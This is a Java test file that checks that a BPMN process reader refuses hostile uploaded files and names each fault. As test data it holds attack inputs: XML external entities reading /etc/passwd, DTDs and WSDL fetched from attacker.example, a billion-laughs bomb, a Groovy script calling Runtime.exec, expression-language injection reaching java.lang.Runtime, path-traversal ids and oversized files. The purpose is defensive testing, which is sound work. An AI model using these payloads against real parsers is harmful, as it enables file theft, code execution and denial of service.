package org.sundial.procedure;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Files somebody made to do harm (promises T10, T13): each is refused with the fault and the element that carries the
 * harm, and none is an exception or a request to anywhere.
 */
final class HostileFilesTest {

    static final String GOOD = Bpmn.process()
            .variable("granted", "truth")
            .start("s")
            .tasks("a", "b")
            .xor("x")
            .end("e", "e2")
            .flows("s > a > x", "x > b : granted", "x > e2 : not granted", "b > e")
            .text();

    /** @param expected fault kind and element id, one per line as the reader tells them */
    record Hostile(String what, byte[] file, String... expected) {
        @Override
        public String toString() {
            return what;
        }
    }

    private static Hostile changed(String what, UnaryOperator<String> change, String... expected) {
        String text = change.apply(GOOD);
        assertThat(text).as(what).isNotEqualTo(GOOD);
        return new Hostile(what, text.getBytes(StandardCharsets.UTF_8), expected);
    }

    private static Hostile inA(String what, String attributes, String inside, String... expected) {
        return changed(
                what,
                text -> text.replace(
                        "<userTask id=\"a\" name=\"a\"/>".replace('"', '\''),
                        "<userTask id='a' name='a' " + attributes + ">" + inside + "</userTask>"),
                expected);
    }

    private static Hostile asA(String what, String element, String... expected) {
        return changed(what, text -> text.replace("<userTask id='a' name='a'/>", element), expected);
    }

    private static Hostile plain(String what, String file, String... expected) {
        return new Hostile(what, file.getBytes(StandardCharsets.UTF_8), expected);
    }

    static Stream<Hostile> files() {
        String camunda = "xmlns:camunda='http://camunda.org/schema/1.0/bpmn'";
        String flowable = "xmlns:flowable='http://flowable.org/bpmn'";
        String laughs = "<!DOCTYPE d [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>"
                + "<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]>";
        return Stream.of(
                // Doctype and entities
                plain(
                        "an external entity",
                        "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + noProlog("&x;"),
                        "DOCTYPE line 1"),
                plain(
                        "a doctype from the network",
                        "<!DOCTYPE d SYSTEM 'http://attacker.example/d.dtd'>" + noProlog(""),
                        "DOCTYPE line 1"),
                plain("a billion laughs", laughs + noProlog("&c;"), "DOCTYPE line 1"),
                plain(
                        "a parameter entity",
                        "<!DOCTYPE d [<!ENTITY % p SYSTEM 'http://attacker.example/p'> %p;]>" + noProlog(""),
                        "DOCTYPE line 1"),
                plain("an entity nobody declared", noProlog("&x;"), "NOT_XML line 3"),
                changed(
                        "an included file",
                        text -> text.replace(
                                "<process",
                                "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/><process"),
                        "FOREIGN_EXTENSION line 3"),
                // Code
                asA(
                        "a script task",
                        "<scriptTask id='a' scriptFormat='groovy'><script>Runtime.getRuntime().exec('id')</script></scriptTask>",
                        "CODE_NOT_ACCEPTED a"),
                asA(
                        "a service task with a class",
                        "<serviceTask id='a' " + camunda + " camunda:class='com.attacker.Run'/>",
                        "CODE_NOT_ACCEPTED a"),
                asA("a business rule task", "<businessRuleTask id='a'/>", "CODE_NOT_ACCEPTED a"),
                asA("a send task", "<sendTask id='a' operationRef='x'/>", "CODE_NOT_ACCEPTED a"),
                inA(
                        "an expression that escapes",
                        camunda + " camunda:assignee=\"${''.getClass().forName('java.lang.Runtime')}\"",
                        "",
                        "FOREIGN_EXTENSION a"),
                inA(
                        "a flowable expression",
                        flowable + " flowable:skipExpression='${true}'",
                        "",
                        "FOREIGN_EXTENSION a"),
                inA(
                        "an execution listener",
                        camunda,
                        "<extensionElements><camunda:executionListener class='com.attacker.Run' event='start'/></extensionElements>",
                        "FOREIGN_EXTENSION a"),
                inA(
                        "a task listener with a script",
                        flowable,
                        "<extensionElements><flowable:taskListener event='create'><flowable:script language='js'>quit()</flowable:script></flowable:taskListener></extensionElements>",
                        "FOREIGN_EXTENSION a"),
                inA(
                        "an assignment by expression",
                        "",
                        "<potentialOwner><resourceAssignmentExpression><formalExpression>${x}</formalExpression></resourceAssignmentExpression></potentialOwner>",
                        "ELEMENT_NOT_ACCEPTED a"),
                inA(
                        "a form from elsewhere",
                        camunda + " camunda:formKey='embedded:http://attacker.example'",
                        "",
                        "FOREIGN_EXTENSION a"),
                inA("a foreign element right in the task", "xmlns:z='urn:z'", "<z:run/>", "FOREIGN_EXTENSION a"),
                changed(
                        "a condition that runs",
                        text -> text.replace(">granted<", ">${''.getClass()}<"),
                        "FOREIGN_EXPRESSION f3"),
                changed(
                        "a condition in JavaScript",
                        text -> text.replace(
                                "<conditionExpression>granted", "<conditionExpression language='javascript'>granted"),
                        "FOREIGN_EXPRESSION f3"),
                changed(
                        "a condition from a file",
                        text -> text.replace(
                                "<conditionExpression>granted",
                                "<conditionExpression xmlns:camunda='http://camunda.org/schema/1.0/bpmn' camunda:resource='x.groovy'>granted"),
                        "FOREIGN_EXTENSION f3"),
                changed(
                        "an import of a service description",
                        text -> text.replace(
                                "<process",
                                "<import importType='http://schemas.xmlsoap.org/wsdl/' location='http://attacker.example/x.wsdl' namespace='n'/><process"),
                        "ELEMENT_NOT_ACCEPTED line 3"),
                changed(
                        "an interface to a class",
                        text -> text.replace(
                                "<process",
                                "<interface id='i' name='n' implementationRef='java.lang.Runtime'><operation id='o' name='exec'/></interface><process"),
                        "ELEMENT_NOT_ACCEPTED i"),
                // Disguise
                changed(
                        "a misspelt attribute of our own",
                        text -> text.replace("<userTask id='a'", "<userTask id='a' sundial:limt='5 WORKING_DAY'"),
                        "ATTRIBUTE_NOT_ACCEPTED a"),
                changed(
                        "our attribute where it has no meaning",
                        text -> text.replace("<startEvent id='s'", "<startEvent id='s' sundial:post='head'"),
                        "ATTRIBUTE_NOT_ACCEPTED s"),
                changed(
                        "our own element of another kind",
                        text -> text.replace("<sundial:variable", "<sundial:run/><sundial:variable"),
                        "FOREIGN_EXTENSION p"),
                changed(
                        "another namespace called sundial",
                        text -> text.replace("https://sundial.example/bpmn", "https://attacker.example/bpmn"),
                        "FOREIGN_EXTENSION p",
                        "CONDITION_UNKNOWN_VARIABLE f3",
                        "CONDITION_UNKNOWN_VARIABLE f4"),
                changed("the old BPMN namespace", text -> text.replace("20100524", "20090501"), "NOT_BPMN line 3"),
                changed(
                        "a name that reads backwards",
                        text -> text.replace("name='a'", "name='\u202Eevil'"),
                        "ATTRIBUTE_MALFORMED a"),
                changed(
                        "an id that climbs",
                        text -> text.replace("id='b'", "id='../b'").replace("'b'", "'../b'"),
                        "ATTRIBUTE_MALFORMED ../b"),
                changed(
                        "an id in front of a called one",
                        text -> text.replace("id='b'", "id='call/b'").replace("'b'", "'call/b'"),
                        "ATTRIBUTE_MALFORMED call/b"),
                changed(
                        "the same id twice",
                        text -> text.replace("id='b'", "id='a'"),
                        "ID_TWICE a",
                        "FLOW_TO_NOWHERE f3",
                        "FLOW_TO_NOWHERE f5"),
                // Size
                plain("nothing", "", "NOT_XML line 1"),
                plain("half a file", GOOD.substring(0, GOOD.length() / 2), "NOT_XML line 11"),
                plain("a picture", "\u0089PNG\r\n\u001a\n" + "x".repeat(50), "NOT_XML line 1"),
                plain("JSON", "{\"process\": 1}", "NOT_XML line 1"),
                plain(
                        "an SVG with a script",
                        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                        "NOT_BPMN line 1"),
                plain("five megabytes", GOOD + " ".repeat(5 * 1024 * 1024), "FILE_TOO_LARGE line 1"),
                plain("a deep nest", "<a>".repeat(200_000), "NESTED_TOO_DEEPLY line 1"),
                plain("100,000 steps", steps(100_000), "TOO_MANY_ELEMENTS line 8"),
                plain("60,000 short elements", "<d>" + "<a/>".repeat(60_000) + "</d>", "TOO_MANY_ELEMENTS line 1"),
                plain("3,000 steps", steps(3_000), "TOO_MANY_ELEMENTS p"),
                plain("a thousand attributes", "<d " + attributes() + "/>", "NOT_XML line 1"),
                changed(
                        "a condition of a million brackets",
                        text -> text.replace(">granted<", ">" + "(".repeat(1_000_000) + "<"),
                        "CONDITION_TOO_LARGE f3"),
                changed(
                        "a loop in which nobody acts",
                        text -> text.replace(
                                        "<endEvent id='e'/>",
                                        "<exclusiveGateway id='r'/><exclusiveGateway id='q'/><endEvent id='e'/>")
                                .replace("sourceRef='b' targetRef='e'", "sourceRef='b' targetRef='q'")
                                .replace(
                                        "</process>",
                                        flow("g1", "q", "r", "granted") + flow("g2", "q", "e", "not granted")
                                                + flow("g3", "r", "q", "") + "</process>"),
                        "LOOP_WITHOUT_STEP r"),
                changed(
                        "coordinates beyond all bounds",
                        text -> text.replace("</definitions>", drawing("1e308", "NaN") + "</definitions>"),
                        "DRAWING_MALFORMED d1",
                        "DRAWING_MALFORMED d1"));
    }

    private static String noProlog(String inside) {
        return GOOD.substring(GOOD.indexOf("<definitions"))
                .replace("<process", "<documentation>" + inside + "</documentation><process");
    }

    private static String flow(String id, String source, String target, String condition) {
        String expression = condition.isEmpty() ? "" : "<conditionExpression>" + condition + "</conditionExpression>";
        return "<sequenceFlow id='" + id + "' sourceRef='" + source + "' targetRef='" + target + "'>" + expression
                + "</sequenceFlow>";
    }

    private static String drawing(String x, String y) {
        return "<di:BPMNDiagram xmlns:di='http://www.omg.org/spec/BPMN/20100524/DI'><di:BPMNPlane>"
                + "<di:BPMNShape id='d1' bpmnElement='a'><dc:Bounds xmlns:dc='http://www.omg.org/spec/DD/20100524/DC' x='"
                + x + "' y='" + y + "' width='1' height='1'/></di:BPMNShape></di:BPMNPlane></di:BPMNDiagram>";
    }

    private static String steps(int count) {
        Bpmn bpmn = Bpmn.process().start("s").end("e");
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < count; i++) {
            all.append("<userTask id='t").append(i).append("'/>");
        }
        return bpmn.raw(all.toString()).text();
    }

    private static String attributes() {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < 1_000; i++) {
            all.append('a').append(i).append("='' ");
        }
        return all.toString();
    }

    private static List<String> told(byte[] file) {
        return switch (BpmnReader.read(file)) {
            case Import.Imported imported -> List.of();
            case Import.Refused refused ->
                refused.faults().stream()
                        .map(fault -> fault.kind() + " " + fault.elementId())
                        .toList();
        };
    }

    @ParameterizedTest
    @MethodSource("files")
    void is_refused_with_its_element_and_nothing_else(Hostile hostile) {
        assertThat(told(hostile.file())).isEqualTo(Arrays.asList(hostile.expected()));
    }

    @Test
    void a_processing_instruction_is_ignored() {
        assertThat(told(GOOD.replace("?>", "?><?xml-stylesheet href='http://attacker.example/x.xsl'?>")
                        .getBytes(StandardCharsets.UTF_8)))
                .isEmpty();
    }

    @Test
    void the_file_they_were_all_made_from_is_accepted() {
        assertThat(told(GOOD.getBytes(StandardCharsets.UTF_8))).isEmpty();
    }

    @Test
    void every_fault_of_a_file_is_told_at_once_in_the_order_of_the_file() {
        String text = GOOD.replace("<userTask id='a' name='a'/>", "<scriptTask id='a'/>")
                .replace(
                        "<userTask id='b' name='b'/>",
                        "<userTask id='b' foo='1' sundial:limit='five' sundial:marks='NOTIS'/>")
                .replace(">granted<", ">grnted = 3<");
        assertThat(told(text.getBytes(StandardCharsets.UTF_8)))
                .containsExactly(
                        "CODE_NOT_ACCEPTED a",
                        "ATTRIBUTE_NOT_ACCEPTED b",
                        "ATTRIBUTE_MALFORMED b",
                        "ATTRIBUTE_MALFORMED b",
                        "CONDITION_UNKNOWN_VARIABLE f3");
    }

    @Test
    void more_faults_than_a_person_reads_are_cut_short_and_it_says_so() {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < 1_000; i++) {
            all.append("<scriptTask id='t").append(i).append("'/>");
        }
        List<String> told = told(Bpmn.process().raw(all.toString()).bytes());
        assertThat(told).hasSize(FaultList.MAX_FAULTS + 1).last().asString().startsWith("MORE_FAULTS");
    }

    @Test
    void declared_encodings_are_honoured_and_false_ones_refused() {
        String latin = GOOD.replace("UTF-8", "ISO-8859-1")
                .replace("name='a'", "name='Prüfung'")
                .replace("测试流程", "x");
        assertThat(nameOfA(latin.getBytes(StandardCharsets.ISO_8859_1))).isEqualTo("Prüfung");
        String gbk = GOOD.replace("UTF-8", "GB18030").replace("name='a'", "name='审查'");
        assertThat(nameOfA(gbk.getBytes(Charset.forName("GB18030")))).isEqualTo("审查");
        String wide = GOOD.replace("UTF-8", "UTF-16").replace("name='a'", "name='审查'");
        assertThat(nameOfA(wide.getBytes(StandardCharsets.UTF_16))).isEqualTo("审查");
        assertThat(told(gbk.replace("GB18030", "UTF-8").getBytes(Charset.forName("GB18030"))))
                .containsExactly("ENCODING_WRONG line 1");
        assertThat(told(GOOD.replace("UTF-8", "x-unknown").getBytes(StandardCharsets.UTF_8)))
                .containsExactly("ENCODING_WRONG line 1");
    }

    private static String nameOfA(byte[] file) {
        return Bpmn.procedure(BpmnReader.read(file)).node("a").name();
    }
}
